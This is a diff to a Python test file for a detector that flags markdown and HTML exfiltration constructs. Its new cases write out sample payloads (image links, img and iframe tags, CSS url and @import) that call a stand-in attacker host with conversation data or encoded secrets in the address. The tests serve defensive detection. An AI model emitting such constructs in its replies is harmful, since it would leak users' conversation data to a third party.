@@ -2,10 +2,13 @@
 
 from __future__ import annotations
 
+from unicodedata import normalize
+
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from seatrial.checks.detectors.carried import Carried
 from seatrial.checks.detectors.hosts import host_of, plain_host
 from seatrial.core.errors import SpecError
 
@@ -44,7 +47,10 @@ def test_an_address_of_an_allowed_host_passes(judge, text):
         ("https://example.org", "https://example.org"),
         ("https://xexample.com/", "https://xexample.com/"),
         ("hxxp://evil.test", "hxxp://evil.test"),
-        ("javascript:alert(1)", "javascript:alert(1"),
+        ("javascript:alert(1)", "javascript:alert(1)"),
+        ("(see https://evil.test/a_(b))", "https://evil.test/a_(b)"),
+        ("[x](https://evil.test/a(b)), then", "https://evil.test/a(b)"),
+        ("https://evil.test/{id}.", "https://evil.test/{id}"),
         ("data:text/html;base64,AAAA", "data:text/html;base64,AAAA"),
         ("go to www.evil.test now", "www.evil.test"),
         ("evil.com/path", "evil.com/path"),
@@ -115,6 +121,78 @@ def test_what_carries_data_away_fails(judge, text, label):
     verdict = judge({"markdown-exfiltration": ALLOW}, text)
     assert (verdict.state, verdict.label) == ("fail", label)
     assert "evil" not in verdict.reason
+
+
+@pytest.mark.parametrize(
+    "construct",
+    [
+        "![x](https://evil.test/?q=1)",
+        "![x]( <https://evil.test/p.png> 'a title' )",
+        '![x](https://evil.test/a(b)c?q=it\'s "a title")',
+        "[more](https://evil.test/?q=the+whole+conversation+so+far)",
+        "[![x](https://evil.test/p.png)](https://evil.test/#c2VjcmV0IHN1bW1hcnkgb2YgYWxs)",
+        "<img src='https://evil.test/p.png' alt='x'>",
+        "<iframe src=//evil.test/a></iframe>",
+        "url( 'https://evil.test/p.png' )",
+        '@import "https://evil.test/a.css"',
+        "https://evil.test/log/{conversation}",
+    ],
+)
+def test_what_carries_data_away_is_pointed_at_up_to_where_it_ends(judge, construct):
+    text = f"so {construct}, (and) so on"
+    spans = judge({"markdown-exfiltration": ALLOW}, text).spans
+    assert (min(span.start for span in spans), max(span.end for span in spans)) == (3, 3 + len(construct))
+
+
+def test_a_link_that_does_not_end_is_pointed_at_up_to_the_end_of_its_address(judge):
+    text = "![x](https://evil.test/p.png and then"
+    (span,) = judge("markdown-exfiltration", text).spans
+    assert text[span.start : span.end] == "![x](https://evil.test/p.png"
+
+
+ADDRESSES = st.lists(
+    st.sampled_from(
+        [
+            "https://",
+            "evil.test/",
+            "?",
+            "#",
+            "a" * 23,
+            "b" * 24,
+            "%20",
+            "/",
+            "-",
+            "{user}",
+            "$(",
+            "(",
+            ")",
+            ".",
+            " ",
+            "é@",
+        ]
+    ),
+    max_size=16,
+).map("".join)
+
+
+@given(ADDRESSES, ADDRESSES)
+def test_what_stands_around_an_address_is_no_part_of_what_it_carries(before, inside):
+    address = "https://evil.test/" + inside.partition(" ")[0]
+    alone, among = Carried(address), Carried(f"{before} {address} {before}")
+    begin = len(before) + 1
+    host, behind = alone.host(0, len(address))
+    assert among.host(begin, begin + len(address)) == (host, begin + behind)
+    assert among.carries(begin + behind, begin + len(address), host) == alone.carries(behind, len(address), host)
+
+
+@given(st.text("aéßİ漢ش.-ﾞx1n\u0301ς", min_size=1, max_size=70))
+def test_a_host_beyond_ascii_is_what_the_codec_makes_of_it(host):
+    name = normalize("NFKC", host).strip(".").lower()
+    try:
+        expected = name if name.isascii() else name.encode("idna").decode()
+    except UnicodeError:
+        expected = ""
+    assert plain_host(host) == expected
 
 
 @given(st.text("htps:/\\@.evilexampco%6#?[]é\ud800 ", max_size=40))
